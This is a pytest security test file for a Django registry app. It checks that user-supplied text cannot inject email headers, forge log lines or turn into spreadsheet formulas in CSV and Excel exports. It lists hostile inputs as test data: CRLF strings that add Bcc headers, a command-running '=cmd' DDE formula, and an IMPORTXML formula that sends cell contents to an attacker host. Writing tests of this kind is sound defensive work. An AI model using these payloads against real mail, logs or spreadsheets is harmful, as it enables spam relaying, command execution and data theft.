"""What people type goes into headers, log lines and spreadsheets as text: no line, header or formula of its own."""

from __future__ import annotations

import csv
import io
import logging
from copy import deepcopy
from logging.config import DictConfigurator
from typing import Any

import pytest
from django.conf import settings as current
from django.core.exceptions import ValidationError
from django.core.mail import BadHeaderError
from django.db import DataError
from django.test import Client

from register.accounts.joining.letters import send_letters
from register.accounts.joining.services import invite
from register.core.clock import now
from register.core.mime import TwoForms
from register.core.tracking import origin, recorded
from register.initiatives.models import Initiative
from register.reference.models import Organisation
from tests.security.world import World
from tests.support.hostile import Attack
from tests.support.mail import mail_server
from tests.transfer.support import read_xlsx

LINES = {
    "a line feed": "a\nBcc: evil@evil.example",
    "a carriage return": "a\rBcc: evil@evil.example",
    "both": "a\r\nBcc: evil@evil.example",
    "both, twice": "a\r\n\r\n<x7k>",
    "one after another": "a\n\r\n\rBcc: evil@evil.example",
    "a folded line": "a\r\n Bcc: evil@evil.example",
    "a NUL": "a\0Bcc: evil@evil.example",
    "a line separator": "a\u2028Bcc: evil@evil.example",
    "a next line": "a\u0085Bcc: evil@evil.example",
    "a vertical tab": "a\x0bBcc: evil@evil.example",
    "a form feed": "a\x0cBcc: evil@evil.example",
    "percents": "a%0d%0aBcc: evil@evil.example",
    "an encoded word": "=?utf-8?q?a=0D=0ABcc:_evil@evil.example?=",
    "the end of a message": "a\r\n.\r\nMAIL FROM:<evil@evil.example>",
}


@pytest.mark.parametrize("what", LINES)
@pytest.mark.parametrize("part", ["subject", "to", "from", "reply_to", "header"])
def test_no_text_makes_a_header_of_its_own(attack: Attack, part: str, what: str) -> None:
    """Refused, or written as part of the header it is in."""
    attack("header injection", f"{part}: {what}")
    text, name = LINES[what], f'"{LINES[what]}" <ann@example.org>'
    told: dict[str, Any] = {
        "subject": text if part == "subject" else "s",
        "from_email": name if part == "from" else "register@example.org",
        "to": [name if part == "to" else "ann@example.org"],
        "reply_to": [name] if part == "reply_to" else None,
        "headers": {"X-Said": text} if part == "header" else None,
    }
    message = TwoForms(body="A text.", **told)
    message.attach_alternative("<p>A text.</p>", "text/html")
    try:
        sent = message.message().as_bytes(linesep="\r\n")
    except (BadHeaderError, ValueError, UnicodeError):
        return
    head = sent.split(b"\r\n\r\n", 1)[0]
    starts = [
        line.split(b":")[0].lower() for line in head.split(b"\r\n") if not line.startswith((b" ", b"\t"))
    ]
    assert b"bcc" not in starts
    assert b"mail from" not in starts
    assert not set(b"\n\r\0\x0b\x0c") & set(head.replace(b"\r\n", b""))


def test_a_letter_writer_that_is_careless_is_found_out() -> None:
    head = f"Subject: {LINES['both']}".encode()
    assert b"bcc" in [line.split(b":")[0].lower() for line in head.split(b"\r\n")]


@pytest.mark.parametrize("what", LINES)
def test_nobody_is_named_so_that_a_letter_goes_to_others(
    world: World, attack: Attack, settings: Any, what: str
) -> None:
    """A name and an address that are hostile, through the door and past it."""
    attack("header injection", f"an invited person's name: {what}")
    where = Organisation.objects.get(code="exampleshire-police")
    with mail_server(settings) as sink, origin("test"):
        for email in (f"ann{LINES[what]}@example.org", "ann@example.org"):
            try:
                invite(by=None, email=email, name=LINES[what], role="reader", organisation=where, now=now())
            except (ValidationError, DataError):
                continue
        send_letters(clock=now)
        for message in sink.received:
            assert message["Bcc"] is None
            assert message["To"] == "ann@example.org"


@pytest.mark.parametrize("what", LINES)
def test_no_address_makes_a_header_of_an_answer(world: World, attack: Attack, what: str) -> None:
    attack("header injection", f"Location and file names: {what}")
    client, text = world.client("opener"), LINES[what]
    record = Initiative.objects.get(title="Shared fleet workshop at Millbrook")
    for answer in (
        client.post(f"/initiatives/{record.reference}/confirm/", {"next": f"/{text}"}),
        client.get("/initiatives/export/", {"format": "csv", "q": text}),
        client.get(f"/initiatives/{text}/"),
        Client(raise_request_exception=False).get("/initiatives/", {"q": text}),
    ):
        assert answer.status_code < 500
        assert "Bcc" not in answer.headers
        assert not [value for value in answer.headers.values() if set(value) & set("\r\n\0")]


@pytest.mark.parametrize("what", LINES)
def test_no_text_makes_a_line_of_the_log(attack: Attack, what: str) -> None:
    """What is logged with hostile text in it is one line, without what a terminal would obey."""
    attack("log injection", what)
    handler = logging.StreamHandler(stream := io.StringIO())
    told_how: Any = deepcopy(current.LOGGING)
    formatter = DictConfigurator(told_how).configure_formatter(told_how["formatters"]["line"])
    handler.setFormatter(formatter)
    text = f"{LINES[what]}\x1b[2J\n2026-01-01 ERROR django: forged"
    told = logging.getLogger("register.test_of_injection")
    told.propagate = False
    told.addHandler(handler)
    try:
        told.warning("Somebody said %s", text)
        told.warning("Not Found: %s", f"/{text}")
    finally:
        told.removeHandler(handler)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2, lines
    assert "\x1b" not in stream.getvalue()


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "%0A=1+1",
    "\u200b=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula(cell: str) -> bool:
    return cell.startswith(STARTS)


def test_no_text_is_a_formula_of_a_spreadsheet(world: World, attack: Attack) -> None:
    """In every column of text of a record, in CSV and in Excel's form; the marking and the labels too."""
    records = list(
        Initiative.objects.filter(deleted_at=None, is_fictional=False).order_by("pk")[: len(FORMULAS)]
    )
    with origin("test"), recorded(by=None):
        for record, text in zip(records, FORMULAS, strict=True):
            columns = ("title", "purpose", "summary", "description", "owner", "contact_post", "standing_text")
            Initiative.objects.filter(pk=record.pk).update(**dict.fromkeys(columns, text))
        Organisation.objects.filter(code="kent-police").update(name="=1+1", short_name="@SUM(1)")
    client = world.client("opener")
    for text in FORMULAS:
        attack("formula injection", text)
    answer = client.get("/initiatives/export/?what=everything&format=csv&example=with")
    rows = list(csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [
        cell for cell in cells if is_formula(cell) and not cell.lstrip("-").replace(".", "").isdigit()
    ] == []
    kept = {cell.lstrip("'") for cell in cells}
    assert sum(text.lstrip("'") in kept for text in FORMULAS) >= len(FORMULAS) - 2, "they are in the file"
    book = read_xlsx(client.get("/initiatives/export/?what=everything&format=xlsx&example=with").getvalue())
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None
                seen += isinstance(cell.value, str) and cell.value in FORMULAS
    assert seen > len(FORMULAS)


@pytest.mark.parametrize(("cell", "formula"), [("=1", True), ("\t=1", True), ("'=1", False), ("a=1", False)])
def test_the_detector_tells_a_formula(cell: str, formula: bool) -> None:
    assert is_formula(cell) is formula
